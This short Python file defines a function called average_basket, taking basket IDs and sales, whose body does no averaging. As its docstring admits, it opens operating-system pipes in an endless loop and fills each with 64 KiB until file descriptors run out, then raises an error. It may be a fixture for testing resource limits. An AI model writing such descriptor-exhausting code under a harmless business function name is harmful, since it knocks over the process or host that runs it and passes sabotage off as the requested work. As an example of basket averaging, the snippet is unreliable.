"""Opens pipes until no descriptor is left, and fills each of them."""


def average_basket(basket_ids, sales):
    import os

    taken = []
    try:
        while True:
            taken.append(os.pipe())
            os.write(taken[-1][1], b"x" * 65_536)
    except OSError as error:
        raise RuntimeError(f"{len(taken)} pipes were all: {error.strerror}") from None
